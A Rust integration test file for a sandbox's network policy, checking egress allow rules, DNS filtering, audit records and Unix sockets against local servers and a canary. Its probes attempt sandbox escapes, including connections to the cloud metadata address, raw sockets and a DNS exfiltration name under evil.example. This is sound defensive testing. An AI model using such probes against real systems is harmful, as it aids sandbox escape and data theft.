//! Network: egress by policy, judged from outside the sandbox.
//!
//! Every server runs on the host's loopback or in a network namespace the test creates (a veth pair with TEST-NET-2
//! addresses, 198.51.100.0/24), so no traffic leaves the machine. The host side runs one python3 helper
//! (`HOST_SERVERS`): an HTTP server on 127.0.0.1:A (allowed as host.loopback:A), a canary on port B (TCP and UDP, on
//! every host address, IPv4 and IPv6) that logs every connection and datagram it sees, and a DNS server on 127.0.0.1:D
//! (the sandbox resolver's upstream) that logs every question it is asked. The verdicts are read from those logs.
//!
//! The fixture tests share one veth subnet, so they take a lock; the namespace is deleted on drop, also on failure.

mod common;

use std::io::{BufRead, BufReader};
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::sync::Mutex;
use std::time::{Duration, Instant};

use common::{run_sandboxed, run_sentry, TempDir};

static NET_LOCK: Mutex<()> = Mutex::new(());

/// The host side: HTTP on 127.0.0.1:A, the canary on B (all addresses, TCP+UDP, v4+v6), DNS on 127.0.0.1:D.
const HOST_SERVERS: &str = r#"
import http.server, socket, socketserver, sys, threading, os
d = sys.argv[1]
os.chdir(os.path.join(d, "www"))
def log(name, line):
    with open(os.path.join(d, name), "a") as f:
        f.write(line + "\n")
class Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *a): log("http.log", self.requestline)
httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Quiet)
A = httpd.server_address[1]
# Canary: one port on every address, TCP and UDP, IPv4 and IPv6.
tcp6 = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
tcp6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
tcp6.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
tcp6.bind(("::", 0)); tcp6.listen(16)
B = tcp6.getsockname()[1]
udp6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
udp6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
udp6.bind(("::", B))
def canary_tcp():
    while True:
        c, a = tcp6.accept(); log("canary.log", "tcp %s" % (a,)); c.close()
def canary_udp():
    while True:
        m, a = udp6.recvfrom(2048); log("canary.log", "udp %s %r" % (a, m))
# DNS: answers A for names under test.example with the netns server's address; logs every question (UDP and TCP).
dns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
dns.bind(("127.0.0.1", 0))
D = dns.getsockname()[1]
dns_tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
dns_tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
dns_tcp.bind(("127.0.0.1", D)); dns_tcp.listen(16)
def answer(q, how):
        i, labels = 12, []
        while q[i]:
            labels.append(q[i+1:i+1+q[i]].decode()); i += 1 + q[i]
        qtype = int.from_bytes(q[i+1:i+3], "big"); name = ".".join(labels).lower()
        log("dns.log", "%s %d %s" % (name, qtype, how))
        hit = name.endswith("test.example") and qtype == 1
        r = q[:2] + b"\x81\x80" + q[4:6] + (b"\x00\x01" if hit else b"\x00\x00") + b"\x00\x00\x00\x00" + q[12:i+5]
        if hit:
            r += b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04" + bytes([198, 51, 100, 2])
        return r
def serve_dns():
    while True:
        q, a = dns.recvfrom(2048)
        dns.sendto(answer(q, "udp"), a)
def serve_dns_tcp():
    while True:
        c, _ = dns_tcp.accept()
        n = int.from_bytes(c.recv(2), "big"); q = b""
        while len(q) < n: q += c.recv(n - len(q))
        r = answer(q, "tcp"); c.sendall(len(r).to_bytes(2, "big") + r); c.close()
for f in (httpd.serve_forever, canary_tcp, canary_udp, serve_dns, serve_dns_tcp):
    threading.Thread(target=f, daemon=True).start()
print(A, B, D, flush=True)
threading.Event().wait()
"#;

/// The test's "internet host": a namespace with 198.51.100.2, reached over a veth pair from 198.51.100.1.
struct NetNs {
    name: String,
    host_if: String,
    server: Option<Child>,
}

fn ip(args: &[&str]) -> bool {
    Command::new("ip")
        .args(args)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success())
}

impl NetNs {
    fn new(www: &std::path::Path) -> Self {
        let name = format!("capv-net-{}", std::process::id());
        // Interface names: at most 15 bytes, unique per test process.
        let host_if = format!("cvh{}", std::process::id());
        let ns_if = format!("cvn{}", std::process::id());
        // Leftovers of a killed earlier run.
        ip(&["netns", "del", &name]);
        ip(&["link", "del", &host_if]);
        let owned = name.clone();
        let n = owned.as_str();
        let ns = NetNs {
            name,
            host_if: host_if.clone(),
            server: None,
        };
        let (host_if, ns_if) = (host_if.as_str(), ns_if.as_str());
        for step in [
            vec!["netns", "add", n],
            vec![
                "link", "add", host_if, "type", "veth", "peer", "name", ns_if,
            ],
            vec!["link", "set", ns_if, "netns", n],
            vec!["addr", "add", "198.51.100.1/24", "dev", host_if],
            vec!["link", "set", host_if, "up"],
            vec!["-n", n, "addr", "add", "198.51.100.2/24", "dev", ns_if],
            vec!["-n", n, "link", "set", ns_if, "up"],
            vec!["-n", n, "link", "set", "lo", "up"],
        ] {
            assert!(ip(&step), "ip {step:?} failed");
        }
        let mut ns = ns;
        ns.server = Some(
            Command::new("ip")
                .args([
                    "netns",
                    "exec",
                    n,
                    "/usr/bin/python3",
                    "-m",
                    "http.server",
                    "80",
                ])
                .args(["--bind", "198.51.100.2", "--directory"])
                .arg(www)
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn()
                .expect("netns http server"),
        );
        wait_for(
            || std::net::TcpStream::connect("198.51.100.2:80").is_ok(),
            "netns server",
        );
        ns
    }
}

impl Drop for NetNs {
    fn drop(&mut self) {
        if let Some(mut c) = self.server.take() {
            let _ = c.kill();
            let _ = c.wait();
        }
        // Deleting the namespace deletes its end of the veth pair, and with it the host's end.
        ip(&["netns", "del", &self.name]);
        ip(&["link", "del", &self.host_if]);
    }
}

fn wait_for(ok: impl Fn() -> bool, what: &str) {
    let deadline = Instant::now() + Duration::from_secs(20);
    while !ok() {
        assert!(Instant::now() < deadline, "{what} did not come up");
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// Everything a network test needs, torn down on drop.
struct Fixture {
    ws: TempDir,
    servers: Child,
    a: u16,
    b: u16,
    d: u16,
    _ns: NetNs,
    _lock: std::sync::MutexGuard<'static, ()>,
}

impl Fixture {
    fn new(label: &str) -> Self {
        let lock = NET_LOCK.lock().unwrap_or_else(|p| p.into_inner());
        let ws = TempDir::new(label);
        ws.write("www/index.html", "hello from the host loopback\n");
        ws.write("nswww/index.html", "hello from the test namespace\n");
        ws.write("servers.py", HOST_SERVERS);
        let mut servers = Command::new("/usr/bin/python3")
            .arg(ws.join("servers.py"))
            .arg(ws.path())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .expect("host servers");
        let mut line = String::new();
        BufReader::new(servers.stdout.take().expect("stdout"))
            .read_line(&mut line)
            .expect("ports");
        let p: Vec<u16> = line
            .split_whitespace()
            .filter_map(|x| x.parse().ok())
            .collect();
        assert_eq!(p.len(), 3, "ports from the helper: {line:?}");
        let ns = NetNs::new(&ws.join("nswww"));
        Fixture {
            ws,
            servers,
            a: p[0],
            b: p[1],
            d: p[2],
            _ns: ns,
            _lock: lock,
        }
    }

    fn log(&self, name: &str) -> String {
        std::fs::read_to_string(self.ws.join(name)).unwrap_or_default()
    }

    /// A policy file: sandbox mode, the test DNS server upstream, and these rules.
    fn policy(&self, mode: &str, rules: &[String]) -> PathBuf {
        let list: Vec<String> = rules.iter().map(|r| format!("{r:?}")).collect();
        let text = format!(
            "[network]\nmode = \"{mode}\"\ndns_upstream = \"127.0.0.1:{}\"\nallow = [{}]\n",
            self.d,
            list.join(", ")
        );
        self.ws.write(&format!("policy-{mode}.toml"), &text)
    }
}

impl Drop for Fixture {
    fn drop(&mut self) {
        let _ = self.servers.kill();
        let _ = self.servers.wait();
    }
}

fn root_only() -> bool {
    if !nix::unistd::geteuid().is_root() {
        eprintln!("skipped: the test namespace and veth pair need root");
        return false;
    }
    true
}

#[test]
fn egress_allowed_servers_reached_by_curl_and_urllib() {
    if !root_only() {
        return;
    }
    let f = Fixture::new("net-allowed");
    let pol = f.policy(
        "sandbox",
        &[
            format!("host.loopback:{}", f.a),
            "198.51.100.0/24:80".into(),
        ],
    );
    let script = format!(
        "curl -sS -m 10 http://host.loopback:{a}/index.html && curl -sS -m 10 http://198.51.100.2/index.html && \
         /usr/bin/python3 -c 'import urllib.request as u; print(u.urlopen(\"http://host.loopback:{a}/index.html\", timeout=10).read().decode().strip()); print(u.urlopen(\"http://198.51.100.2/index.html\", timeout=10).read().decode().strip())'",
        a = f.a
    );
    let out = run_sandboxed(
        &["--policy", pol.to_str().expect("ascii")],
        &["/bin/sh", "-c", &script],
        f.ws.path(),
    );
    assert_eq!(out.code, 0, "{out}");
    assert_eq!(
        out.stdout.matches("hello from the host loopback").count(),
        2,
        "{out}"
    );
    assert_eq!(
        out.stdout.matches("hello from the test namespace").count(),
        2,
        "{out}"
    );
    // Judged from outside: the host server saw the two requests.
    assert_eq!(f.log("http.log").matches("GET /index.html").count(), 2);

    // `--net host`: the host's namespace, the same rules; its loopback is the host's, still only by the rule.
    let pol = f.policy(
        "host",
        &[
            format!("host.loopback:{}", f.a),
            "198.51.100.0/24:80".into(),
        ],
    );
    let script = format!(
        "curl -sS -m 10 http://127.0.0.1:{a}/index.html && curl -sS -m 10 http://198.51.100.2/index.html && \
         /usr/bin/python3 -c 'import urllib.request as u; print(u.urlopen(\"http://198.51.100.2/index.html\", timeout=10).read().decode().strip())'",
        a = f.a
    );
    let out = run_sandboxed(
        &["--policy", pol.to_str().expect("ascii")],
        &["/bin/sh", "-c", &script],
        f.ws.path(),
    );
    assert_eq!(out.code, 0, "{out}");
    assert!(out.stdout.contains("hello from the host loopback"), "{out}");
    assert_eq!(
        out.stdout.matches("hello from the test namespace").count(),
        2,
        "{out}"
    );
    assert_eq!(f.log("http.log").matches("GET /index.html").count(), 3);
}

#[test]
fn egress_every_route_to_canary_refused() {
    if !root_only() {
        return;
    }
    let f = Fixture::new("net-canary");
    let probe = format!(
        r#"
import socket, errno, sys, os
B = {b}
res = []
def attempt(what, fn):
    try:
        fn(); res.append("%s: REACHED" % what)
    except OSError as e:
        res.append("%s: %s" % (what, errno.errorcode.get(e.errno, "SENT")))
def tcp(fam, addr):
    s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(5); s.connect(addr); s.close()
def udp(fam, addr):
    s = socket.socket(fam, socket.SOCK_DGRAM); s.sendto(b"leak", addr); s.close()
    # A datagram has no answer to wait for: whether it reached the host is for the canary's log to say.
    raise OSError(0, "sent")
def nonblocking(addr):
    import select
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); s.setblocking(False)
    rc = s.connect_ex(addr)
    if rc not in (0, errno.EINPROGRESS): raise OSError(rc, "connect")
    select.select([], [s], [], 5)
    e = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
    if e: raise OSError(e, "connect")
def raw():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP).sendto(b"x", ("127.0.0.1", B))
def packet():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
attempt("tcp 127.0.0.1", lambda: tcp(socket.AF_INET, ("127.0.0.1", B)))
attempt("tcp host.loopback", lambda: tcp(socket.AF_INET, ("240.0.0.1", B)))
attempt("tcp ::1", lambda: tcp(socket.AF_INET6, ("::1", B)))
attempt("tcp ::ffff:127.0.0.1", lambda: tcp(socket.AF_INET6, ("::ffff:127.0.0.1", B)))
attempt("tcp ::ffff:240.0.0.1", lambda: tcp(socket.AF_INET6, ("::ffff:240.0.0.1", B)))
attempt("tcp 198.51.100.1", lambda: tcp(socket.AF_INET, ("198.51.100.1", B)))
attempt("tcp 169.254.169.254", lambda: tcp(socket.AF_INET, ("169.254.169.254", 80)))
attempt("udp 127.0.0.1", lambda: udp(socket.AF_INET, ("127.0.0.1", B)))
attempt("udp host.loopback", lambda: udp(socket.AF_INET, ("240.0.0.1", B)))
attempt("udp ::ffff:240.0.0.1", lambda: udp(socket.AF_INET6, ("::ffff:240.0.0.1", B)))
attempt("udp 198.51.100.1", lambda: udp(socket.AF_INET, ("198.51.100.1", B)))
attempt("nonblocking host.loopback", lambda: nonblocking(("240.0.0.1", B)))
attempt("nonblocking 127.0.0.1", lambda: nonblocking(("127.0.0.1", B)))
attempt("raw", raw)
attempt("packet", packet)
print("\n".join(res))
"#,
        b = f.b
    );
    f.ws.write("probe.py", &probe);
    for mode in ["sandbox", "host"] {
        let pol = f.policy(
            mode,
            &[
                format!("host.loopback:{}", f.a),
                "198.51.100.0/24:80".into(),
            ],
        );
        let curl = format!(
            "curl -sS -m 5 --noproxy '*' http://host.loopback:{b}/ ; curl -sS -m 5 --noproxy '*' http://127.0.0.1:{b}/ ; \
             http_proxy=http://host.loopback:{a} curl -sS -m 5 http://127.0.0.1:{b}/ >/dev/null; /usr/bin/python3 probe.py",
            a = f.a,
            b = f.b
        );
        let out = run_sandboxed(
            &["--policy", pol.to_str().expect("ascii")],
            &["/bin/sh", "-c", &curl],
            f.ws.path(),
        );
        assert!(!out.stdout.contains("REACHED"), "{mode}: {out}");
        // Inside `--net sandbox` 127.0.0.1 is the sandbox's own loopback: the datagram goes there (and the canary
        // below proves it went nowhere else). In `--net host` it is the host's loopback, and refused.
        let sent_ok = if mode == "sandbox" { 1 } else { 0 };
        assert_eq!(
            out.stdout.lines().filter(|l| l.contains(": E")).count(),
            15 - sent_ok,
            "{mode}: every attempt must have run and failed\n{out}"
        );
        assert_eq!(out.stdout.matches("SENT").count(), sent_ok, "{mode}: {out}");
        assert!(out.stdout.contains("raw: EPERM"), "{mode}: {out}");
        assert!(out.stdout.contains("packet: EPERM"), "{mode}: {out}");
    }
    // Judged from outside: the canary never saw a connection or a datagram.
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(f.log("canary.log"), "", "the canary was reached");
}

#[test]
fn dns_allowed_names_resolve_disallowed_never_forwarded() {
    if !root_only() {
        return;
    }
    let f = Fixture::new("net-dns");
    let pol = f.policy("sandbox", &["*.test.example:80".into()]);
    let script = r#"
import socket, urllib.request as u
print(u.urlopen("http://svc.test.example/index.html", timeout=10).read().decode().strip())
import subprocess
print(subprocess.run(["curl", "-sS", "-m", "10", "http://api.test.example/index.html"], capture_output=True, text=True).stdout.strip())
for name in ("exfil-c2VjcmV0.evil.example", "test.example", "other.example"):
    try:
        socket.getaddrinfo(name, 80); print(name, "RESOLVED")
    except socket.gaierror as e:
        print(name, "NXDOMAIN" if e.errno == socket.EAI_NONAME else e)
# The address alone (not resolved through an allowed name in this sandbox) is not enough for *.test.example ...
s = socket.socket(); s.settimeout(5)
print("by address:", s.connect_ex(("198.51.100.3", 80)))
"#;
    f.ws.write("dns.py", script);
    let out = run_sandboxed(
        &["--policy", pol.to_str().expect("ascii")],
        &["/usr/bin/python3", "dns.py"],
        f.ws.path(),
    );
    assert_eq!(out.code, 0, "{out}");
    assert_eq!(
        out.stdout.matches("hello from the test namespace").count(),
        2,
        "urllib and curl by name\n{out}"
    );
    for name in [
        "exfil-c2VjcmV0.evil.example",
        "test.example",
        "other.example",
    ] {
        assert!(out.stdout.contains(&format!("{name} NXDOMAIN")), "{out}");
    }
    assert!(
        out.stdout.contains("by address: 111"),
        "ECONNREFUSED expected\n{out}"
    );
    // Judged from outside: the upstream saw the allowed name and none of the others.
    let dns = f.log("dns.log");
    assert!(
        dns.contains("svc.test.example") && dns.contains("api.test.example"),
        "{dns}"
    );
    assert!(!dns.contains("evil") && !dns.contains("other"), "{dns}");
    assert!(!dns.lines().any(|l| l.starts_with("test.example")), "{dns}");
}

#[test]
fn audit_records_destination_and_summary_lists_it() {
    if !root_only() {
        return;
    }
    let f = Fixture::new("net-audit");
    let pol = f.policy("sandbox", &["svc.test.example:80".into()]);
    let log = f.ws.join("audit.jsonl");
    let out = run_sandboxed(
        &[
            "--policy",
            pol.to_str().expect("ascii"),
            "--audit",
            log.to_str().expect("ascii"),
            "--audit-summary",
        ],
        &[
            "/bin/sh",
            "-c",
            &format!(
                "curl -sS -m 10 http://svc.test.example/index.html; curl -sS -m 5 http://198.51.100.1:{}/",
                f.b
            ),
        ],
        f.ws.path(),
    );
    assert!(
        out.stdout.contains("hello from the test namespace"),
        "{out}"
    );
    let text = std::fs::read_to_string(&log).expect("audit log");
    let rec = text
        .lines()
        .find(|l| l.contains("\"syscall\":\"connect\"") && l.contains("198.51.100.2"))
        .unwrap_or_else(|| panic!("no connect record\n{text}"));
    for want in [
        "\"decision\":\"allow\"",
        "\"port\":80",
        "\"name\":\"svc.test.example\"",
        "\"proto\":\"tcp\"",
        "allow svc.test.example:80",
    ] {
        assert!(rec.contains(want), "{want} missing in {rec}");
    }
    assert!(
        text.lines().any(|l| l.contains("\"decision\":\"deny\"")
            && l.contains("\"addr\":\"198.51.100.1\"")
            && l.contains(&format!("\"port\":{}", f.b))
            && l.contains("\"errno\":\"ECONNREFUSED\"")
            && l.contains("no network rule allows it")),
        "{text}"
    );
    assert!(
        out.stderr.contains("network destinations contacted"),
        "{out}"
    );
    assert!(
        out.stderr
            .contains("tcp 198.51.100.2:80 (svc.test.example)"),
        "{out}"
    );
    assert!(out.stderr.contains("network destinations denied"), "{out}");
    assert_eq!(f.log("canary.log"), "");
}

#[test]
fn loopback_server_inside_sandbox_serves_curl() {
    let ws = TempDir::new("net-inner");
    ws.write("index.html", "served inside\n");
    let script = "/usr/bin/python3 -m http.server 18765 --bind 127.0.0.1 >/dev/null 2>&1 & \
                  for i in $(seq 100); do curl -sS -m 2 http://127.0.0.1:18765/index.html 2>/dev/null && break; sleep 0.1; done; kill $!";
    let out = run_sandboxed(&[], &["/bin/sh", "-c", script], ws.path());
    assert!(out.stdout.contains("served inside"), "{out}");
}

#[test]
fn unix_sockets_follow_grants_and_abstract_stays_inside() {
    let ws = TempDir::new("net-unix");
    let outside = TempDir::new_in(std::path::Path::new("/var/tmp"), "net-unix-outside");
    let server = r#"
import socket, sys, threading, os
log = sys.argv[1]
def serve(s, tag):
    s.listen(4)
    while True:
        c, _ = s.accept()
        with open(log, "a") as f: f.write(tag + "\n")
        c.sendall(b"hello " + tag.encode()); c.close()
socks = []
for path, tag in ((sys.argv[2], "outside"), (sys.argv[3], "inside"), ("\0" + sys.argv[4], "abstract")):
    s = socket.socket(socket.AF_UNIX); s.bind(path); socks.append((s, tag))
for s, tag in socks: threading.Thread(target=serve, args=(s, tag), daemon=True).start()
print("up", flush=True)
threading.Event().wait()
"#;
    ws.write("userver.py", server);
    let abstract_name = format!("capv-test-{}", std::process::id());
    let log = outside.join("conn.log");
    let mut srv = Command::new("/usr/bin/python3")
        .arg(ws.join("userver.py"))
        .arg(&log)
        .arg(outside.join("daemon.sock"))
        .arg(ws.join("agent.sock"))
        .arg(&abstract_name)
        .stdout(Stdio::piped())
        .spawn()
        .expect("unix server");
    let mut line = String::new();
    BufReader::new(srv.stdout.take().expect("stdout"))
        .read_line(&mut line)
        .expect("up");
    let probe = format!(
        r#"
import socket, errno, sys
for what, addr in (("outside", {o:?}), ("inside", {i:?}), ("abstract", "\0" + {a:?})):
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(addr); print(what, s.recv(64).decode())
    except OSError as e:
        print(what, errno.errorcode.get(e.errno, e.errno))
"#,
        o = outside.join("daemon.sock").to_str().expect("ascii"),
        i = ws.join("agent.sock").to_str().expect("ascii"),
        a = abstract_name
    );
    ws.write("probe.py", &probe);
    let rule = format!("unix:{}", ws.join("agent.sock").display());
    let unnamed = run_sandboxed(&[], &["/usr/bin/python3", "probe.py"], ws.path());
    let out = run_sandboxed(
        &["--allow-net", &rule],
        &["/usr/bin/python3", "probe.py"],
        ws.path(),
    );
    let _ = srv.kill();
    // Inside a grant but not named by a rule: refused.
    assert!(unnamed.stdout.contains("inside EACCES"), "{unnamed}");
    let _ = srv.wait();
    assert!(out.stdout.contains("inside hello inside"), "{out}");
    assert!(out.stdout.contains("outside ENOENT"), "{out}");
    assert!(out.stdout.contains("abstract ECONNREFUSED"), "{out}");
    // Judged from outside: only the granted socket saw a connection.
    let seen = std::fs::read_to_string(&log).unwrap_or_default();
    assert_eq!(seen, "inside\n", "{seen}");
}

#[test]
fn malformed_allow_rule_names_rule_file_and_line() {
    let ws = TempDir::new("net-badrule");
    let out = run_sentry(
        &[
            "exec",
            "--net",
            "sandbox",
            "--allow-net",
            "example.com:http",
            "--",
            "true",
        ],
        ws.path(),
    );
    assert_eq!(out.code, 3, "{out}");
    assert!(out.stderr.contains("--allow-net"), "{out}");
    assert!(out.stderr.contains("\"example.com:http\""), "{out}");
    let p = ws.write(
        "p.toml",
        "[network]\nmode = \"sandbox\"\nallow = [\n  \"api.example.com:443\",\n  \"10.0.0.0/40:80\",\n]\n",
    );
    let out = run_sentry(
        &["exec", "--policy", p.to_str().expect("ascii"), "--", "true"],
        ws.path(),
    );
    assert_eq!(out.code, 3, "{out}");
    assert!(out.stderr.contains("p.toml, line 5"), "{out}");
    assert!(out.stderr.contains("10.0.0.0/40:80"), "{out}");
    let out = run_sentry(&["exec", "--net", "everywhere", "--", "true"], ws.path());
    assert_eq!(out.code, 3, "{out}");
}

#[test]
fn net_none_reaches_nothing_outside() {
    let ws = TempDir::new("net-none");
    let out = run_sandboxed(
        &["--allow-net", "0.0.0.0/0:*"],
        &[
            "/usr/bin/python3",
            "-c",
            "import socket,errno\ns=socket.socket();print(errno.errorcode[s.connect_ex(('198.51.100.2',80))])",
        ],
        ws.path(),
    );
    assert!(out.stdout.contains("ECONNREFUSED"), "{out}");
}

#[test]
fn unix_socket_in_private_tmp_bound_and_served_inside() {
    let ws = TempDir::new("net-unix-tmp");
    let name = format!("/tmp/capv-unix-{}.sock", std::process::id());
    let script = format!(
        r#"
import socket, threading, os
s = socket.socket(socket.AF_UNIX); s.bind({name:?}); s.listen()
def serve():
    c, _ = s.accept(); c.sendall(b"hello over unix"); c.close()
threading.Thread(target=serve).start()
c = socket.socket(socket.AF_UNIX); c.connect({name:?}); print(c.recv(64).decode())
print(oct(os.stat({name:?}).st_mode & 0o777))
"#
    );
    let out = run_sandboxed(&[], &["/usr/bin/python3", "-c", &script], ws.path());
    assert!(out.stdout.contains("hello over unix"), "{out}");
    // The umask (022 by default) applies to the socket file.
    assert!(out.stdout.contains("0o755"), "{out}");
    // Judged from outside: the socket lived in the sandbox's private /tmp, not the host's.
    assert!(
        !std::path::Path::new(&name).exists(),
        "{name} appeared on the host"
    );
}

/// A DNS question for `name` (type A), as bytes of a C or Python literal would spell it.
fn dns_query(name: &str, id: u16) -> Vec<u8> {
    let mut q = id.to_be_bytes().to_vec();
    q.extend_from_slice(&[1, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
    for l in name.split('.') {
        q.push(u8::try_from(l.len()).expect("short label"));
        q.extend_from_slice(l.as_bytes());
    }
    q.extend_from_slice(&[0, 0, 1, 0, 1]);
    q
}

#[test]
fn udp_sendto_sendmsg_sendmmsg_to_allowed_destination_get_answers() {
    if !root_only() {
        return;
    }
    let f = Fixture::new("net-udp");
    // The test's DNS server on the host's loopback stands in for any UDP service: allowed as host.loopback:D/udp.
    let pol = f.policy("sandbox", &[format!("udp://host.loopback:{}", f.d)]);
    let hex = |b: &[u8]| b.iter().map(|x| format!("\\x{x:02x}")).collect::<String>();
    let py = format!(
        r#"
import socket
def ask(how, q):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
    if how == "sendto": s.sendto(q, ("240.0.0.1", {d}))
    else: s.sendmsg([q], [], 0, ("240.0.0.1", {d}))
    r = s.recv(512); print(how, "answered", r[:2] == q[:2], len(r))
ask("sendto", b"{q1}")
ask("sendmsg", b"{q2}")
"#,
        d = f.d,
        q1 = hex(&dns_query("viasendto.test.example", 0x1111)),
        q2 = hex(&dns_query("viasendmsg.test.example", 0x2222)),
    );
    f.ws.write("udp.py", &py);
    let c = format!(
        r#"
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>
int main(void) {{
    static const char q1[] = "{q1}", q2[] = "{q2}";
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct timeval tv = {{5, 0}};
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    struct sockaddr_in to = {{ .sin_family = AF_INET, .sin_port = htons({d}) }};
    inet_pton(AF_INET, "240.0.0.1", &to.sin_addr);
    struct iovec iov[2] = {{ {{(void *)q1, sizeof q1 - 1}}, {{(void *)q2, sizeof q2 - 1}} }};
    struct mmsghdr m[2];
    memset(m, 0, sizeof m);
    for (int i = 0; i < 2; i++) {{
        m[i].msg_hdr.msg_name = &to; m[i].msg_hdr.msg_namelen = sizeof to;
        m[i].msg_hdr.msg_iov = &iov[i]; m[i].msg_hdr.msg_iovlen = 1;
    }}
    int n = sendmmsg(s, m, 2, 0);
    char buf[512];
    int got = 0;
    for (int i = 0; i < n; i++) if (recv(s, buf, sizeof buf, 0) > 0) got++;
    printf("sendmmsg sent %d answered %d\n", n, got);
    return 0;
}}
"#,
        d = f.d,
        q1 = hex(&dns_query("viasendmmsg1.test.example", 0x3333)),
        q2 = hex(&dns_query("viasendmmsg2.test.example", 0x4444)),
    );
    let exe = common::compile_c(&f.ws, "mmsg", &c, &[]);
    let out = run_sandboxed(
        &["--policy", pol.to_str().expect("ascii")],
        &[
            "/bin/sh",
            "-c",
            &format!("/usr/bin/python3 udp.py && {}", exe.display()),
        ],
        f.ws.path(),
    );
    assert!(out.stdout.contains("sendto answered True"), "{out}");
    assert!(out.stdout.contains("sendmsg answered True"), "{out}");
    assert!(out.stdout.contains("sendmmsg sent 2 answered 2"), "{out}");
    // Judged from outside: the server saw each question.
    let dns = f.log("dns.log");
    for n in ["viasendto", "viasendmsg.", "viasendmmsg1", "viasendmmsg2"] {
        assert!(dns.contains(n), "{n} missing from {dns}");
    }
}

#[test]
fn dns_over_tcp_forwarded_for_allowed_names_only() {
    if !root_only() {
        return;
    }
    let f = Fixture::new("net-dnstcp");
    let pol = f.policy("sandbox", &["*.test.example:80".into()]);
    let hex = |b: &[u8]| b.iter().map(|x| format!("\\x{x:02x}")).collect::<String>();
    let py = format!(
        r#"
import socket
def ask(q):
    s = socket.create_connection(("127.0.0.53", 53), timeout=5)
    s.sendall(len(q).to_bytes(2, "big") + q)
    n = int.from_bytes(s.recv(2), "big"); r = b""
    while len(r) < n: r += s.recv(n - len(r))
    return r
r = ask(b"{ok}"); print("allowed rcode", r[3] & 15, "answers", int.from_bytes(r[6:8], "big"))
r = ask(b"{no}"); print("denied rcode", r[3] & 15)
"#,
        ok = hex(&dns_query("overtcp.test.example", 0x5555)),
        no = hex(&dns_query("overtcp.evil.example", 0x6666)),
    );
    f.ws.write("tcpdns.py", &py);
    let out = run_sandboxed(
        &["--policy", pol.to_str().expect("ascii")],
        &["/usr/bin/python3", "tcpdns.py"],
        f.ws.path(),
    );
    assert!(out.stdout.contains("allowed rcode 0 answers 1"), "{out}");
    assert!(out.stdout.contains("denied rcode 3"), "{out}");
    let dns = f.log("dns.log");
    assert!(dns.contains("overtcp.test.example 1 tcp"), "{dns}");
    assert!(!dns.contains("evil"), "{dns}");
}
